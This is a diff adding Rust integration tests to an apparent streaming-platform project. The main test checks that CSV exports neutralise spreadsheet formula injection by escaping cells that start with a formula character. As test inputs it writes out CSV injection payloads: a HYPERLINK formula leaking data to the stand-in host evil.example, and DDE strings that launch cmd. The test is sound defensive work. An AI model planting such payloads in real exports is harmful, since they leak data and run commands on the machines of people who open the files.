@@ -725,6 +725,12 @@ async fn the_pilot_shows_exactly_the_durations_of_its_records(pool: PgPool) {
         );
     }
     assert!(lag_row.contains(&human(lag_ms[0])), "{lag_row}");
+    // Before → now as people say it, not a bare ratio.
+    let said = streamkeeper::pilot::ratio::said(5_400_000, Some(lag_ms[0]));
+    assert!(
+        said.contains("× faster") && lag_row.contains(&said),
+        "{said}: {lag_row}"
+    );
     assert!(lag_row.contains("rests on 2 events (fewer than 5)"));
     assert!(lag_row.contains("median of the Q3 on-call tickets"));
     let reviewed_row = between(&html, r#"<tr data-metric="change_reviewed">"#, "</tr>");
@@ -1270,5 +1276,93 @@ async fn the_pilot_times_lineage_questions_from_asked_to_answered_and_notified(p
             q.clone(),
             "orders".to_string()
         ),]
+    );
+}
+
+/// Cells people wrote (a consumer group's name, anyone with Kafka access
+/// chooses; baseline notes) reach both CSVs as text, never as formulas:
+/// OWASP's leading `'` on a cell starting `=`, `+`, `-` or `@`.
+#[sqlx::test(migrator = "streamkeeper_server::platform::db::MIGRATOR")]
+async fn csv_cells_that_look_like_formulas_are_neutralised(pool: PgPool) {
+    const GROUP: &str = r#"=HYPERLINK("http://evil.example/?leak=","go")"#;
+    let t = TestApp::new(pool.clone()).await;
+    let (local, _, team) = world(&pool).await;
+    sqlx::query("UPDATE consumer_groups SET name = $1 WHERE cluster_id = $2")
+        .bind(GROUP)
+        .bind(local)
+        .execute(&pool)
+        .await
+        .expect("rename");
+    let manager = t.user("meg", &[Role::Manager]).await;
+    let mt = t.token(manager).await;
+    let notes = [
+        ("lag_flagged", "+cmd|' /C calc'!A0"),
+        ("change_checked", "@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("change_reviewed", "-2+3+cmd|' /C calc'!A0"),
+        ("lineage_answered", "=1+1"),
+    ];
+    let baselines: Vec<Value> = notes
+        .iter()
+        .map(|(m, n)| json!({"metric": m, "ms": 60_000, "note": n}))
+        .collect();
+    let input = json!({
+        "scope_kind": "domains",
+        "scope": ["payments"],
+        "started_on": (Utc::now() - chrono::Duration::days(2)).date_naive(),
+        "baselines": baselines,
+    });
+    let r = t
+        .api(Method::PUT, "/api/v1/pilot/settings", &mt, Some(input))
+        .await;
+    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
+    store::fresh(&pool).await.expect("tally");
+    let key = FlagKey {
+        subject_kind: "group".into(),
+        subject: GROUP.into(),
+        rule: "lag".into(),
+    };
+    raise(
+        &pool,
+        local,
+        team,
+        key,
+        "STOP",
+        chrono::Duration::minutes(9),
+        json!({}),
+    )
+    .await;
+
+    let r = t
+        .api(Method::GET, "/api/v1/pilot/table.csv", &mt, None)
+        .await;
+    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
+    let table = csv_rows(&r.body);
+    for (metric, note) in notes {
+        let row = table
+            .iter()
+            .find(|c| c["metric"] == metric)
+            .expect("a row per metric");
+        assert_eq!(row["baseline_note"], format!("'{note}"), "{row:?}");
+    }
+    let r = t
+        .api(Method::GET, "/api/v1/pilot/events.csv", &mt, None)
+        .await;
+    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
+    let events = csv_rows(&r.body);
+    assert!(!events.is_empty(), "{}", r.body);
+    for e in &events {
+        for (column, cell) in e {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{column}: {cell:?}"
+            );
+        }
+    }
+    assert!(
+        events
+            .iter()
+            .any(|e| e.values().any(|c| *c == format!("'{GROUP}"))),
+        "{}",
+        r.body
     );
 }
